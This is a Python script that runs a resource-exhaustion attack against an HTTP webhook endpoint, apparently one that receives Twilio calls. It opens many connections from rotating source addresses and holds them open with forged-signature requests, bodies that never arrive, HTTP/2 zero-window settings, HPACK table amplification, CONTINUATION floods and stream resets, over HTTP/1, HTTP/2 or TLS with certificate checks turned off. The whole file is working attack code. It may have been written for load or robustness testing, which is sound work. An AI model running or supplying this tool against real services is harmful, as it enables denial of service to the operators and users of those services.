"""Takes all of one resource and holds it: exhaust.py RESOURCE TRANSPORT HOST PORT COUNT SECONDS ADDRESS…

Opens COUNT connections, each from the next of the addresses, again whenever the gate closes one.
TRANSPORT is http1, http2 (without TLS) or tls (HTTP/2 and HTTP/1 in turn).
"""

import asyncio
import functools
import itertools
import ssl
import struct
import sys
import time

SIGNATURE = "A" * 27 + "="
FORM = "application/x-www-form-urlencoded"
HOST = "hooks.example.com"
BODY = 262_144  # the default of max_body_bytes
STREAMS = 16  # of one connection at once

DATA, HEADERS, RESET, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value: str) -> bytes:
    """RFC 7541 5.2, without Huffman's code."""
    length, most = len(value), 127
    if length < most:
        return bytes([length]) + value.encode()
    out, length = [most], length - most
    while length >= 128:
        out.append(length % 128 + 128)
        length //= 128
    return bytes([*out, length]) + value.encode()


def literal(name: str, value: str) -> bytes:
    return b"\0" + text(name) + text(value)


def inserted(name: str, value: str) -> bytes:
    return b"\x40" + text(name) + text(value)


def pseudo(method: str, path: str) -> bytes:
    fields = ((":method", method), (":scheme", "https"), (":path", path), (":authority", HOST))
    return b"".join(literal(*field) for field in fields)


FORGED_2 = (
    pseudo("POST", "/voice") + literal("content-type", FORM) + literal("x-twilio-signature", SIGNATURE)
)
FORGED_1 = f"POST /voice HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: {FORM}\r\nX-Twilio-Signature: {SIGNATURE}\r\n"
# One entry that fills the dynamic table; a reference to it is one byte.
LARGE, SMALL = inserted("a", "x" * 4063), inserted("a", "")
NEWEST = b"\xbe"


class Http1:
    """What is sent over HTTP/1, by resource."""

    connections = descriptors = b""
    replay = f"{FORGED_1}Content-Length: 3\r\n\r\na=b".encode() * 50
    bodies = f"{FORGED_1}Content-Length: {BODY}\r\n\r\n".encode() + b"a" * (BODY - 1)
    permits = f"GET /open HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    # Requests whose responses nobody reads.
    streams = f"GET /voice HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 2000
    large_heads = f"{FORGED_1}X-A: {'x' * 31_000}\r\nContent-Length: 9\r\n\r\n".encode()
    small_fields = (FORGED_1 + "A:\r\n" * 90 + "Content-Length: 9\r\n\r\n").encode()
    trailers = f"{FORGED_1}Transfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-A: {'x' * 15_000}\r\n".encode()
    continuation = f"{FORGED_1}X-A: {'x' * 31_000}".encode()  # a head without an end


def on_streams(make) -> bytes:
    return b"".join(make(2 * at + 1) for at in range(STREAMS))


def forged_streams(first: bytes, each: bytes) -> bytes:
    """Forged requests whose bodies do not come; the first one fills the dynamic table."""
    return on_streams(
        lambda at: frame(HEADERS, END_HEADERS, at, FORGED_2 + (first if at == 1 else b"") + each)
    )


class Http2:
    """What is sent over HTTP/2 behind the preface, by resource."""

    connections = descriptors = b""
    replay = on_streams(
        lambda at: frame(HEADERS, END_HEADERS, at, FORGED_2) + frame(DATA, END_STREAM, at, b"a=b")
    )
    bodies = on_streams(lambda at: frame(HEADERS, END_HEADERS, at, FORGED_2)) + b"".join(
        frame(DATA, 0, at, b"a" * 15_000) for at in range(1, 2 * STREAMS, 2)
    )
    permits = on_streams(lambda at: frame(HEADERS, END_HEADERS | END_STREAM, at, pseudo("GET", "/open")))
    # The window is 0: the responses wait.
    streams = on_streams(
        lambda at: frame(
            HEADERS, END_HEADERS | END_STREAM, at, pseudo("GET", "/") + (LARGE if at == 1 else b"") + NEWEST * 7
        )
    )
    large_heads = forged_streams(LARGE, NEWEST * 6)
    small_fields = forged_streams(SMALL, NEWEST * 80)
    trailers = forged_streams(LARGE, b"") + on_streams(
        lambda at: frame(HEADERS, END_HEADERS | END_STREAM, at, NEWEST * 7)
    )
    continuation = forged_streams(LARGE, NEWEST * 6) + frame(HEADERS, 0, 101, FORGED_2) + b"".join(
        frame(CONTINUATION, 0, 101, NEWEST) for _ in range(4)
    )


# SETTINGS_INITIAL_WINDOW_SIZE of 0.
OPENING = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))


@functools.cache
def tls(protocol: str) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


async def hold(what, transport: str, host: str, port: int, address: str, number: int, until: float) -> None:
    over_2 = transport == "http2" or (transport == "tls" and number % 2 == 0)
    context = tls("h2" if over_2 else "http/1.1") if transport == "tls" else None
    reader, writer = await asyncio.wait_for(
        asyncio.open_connection(host, port, ssl=context, local_addr=(address, 0), limit=1024),
        until - time.monotonic(),
    )
    try:
        if over_2:
            writer.write(OPENING)
        writer.write(getattr(Http2 if over_2 else Http1, what))
        await asyncio.wait_for(writer.drain(), until - time.monotonic())
        if what == "streams" and not over_2:
            await asyncio.sleep(until - time.monotonic())
        for stream in itertools.count(1001, 2):
            # Reading only notices the end.
            try:
                while await asyncio.wait_for(reader.read(65536), min(1.0, until - time.monotonic())):
                    pass
                return
            except asyncio.TimeoutError:
                if time.monotonic() >= until - 0.01:
                    return
            if over_2 and what == "streams":
                # Something moves on the connection: an unsigned request, and its reset.
                unsigned = frame(HEADERS, END_HEADERS | END_STREAM, stream, pseudo("GET", "/"))
                writer.write(unsigned + frame(RESET, 0, stream, b"\0\0\0\x08"))
    finally:
        writer.transport.abort()


async def again(number: int, until: float, *how) -> None:
    await asyncio.sleep(number % 50 / 200)
    while time.monotonic() < until:
        try:
            await hold(*how, number, until)
        except (OSError, EOFError, asyncio.TimeoutError):
            pass
        await asyncio.sleep(0.2)


async def main() -> None:
    what, transport, host, port, count, seconds, *addresses = sys.argv[1:]
    until = time.monotonic() + float(seconds)
    sources = itertools.cycle(addresses)
    each = (again(n, until, what, transport, host, int(port), next(sources)) for n in range(int(count)))
    await asyncio.gather(*each)


asyncio.run(main())
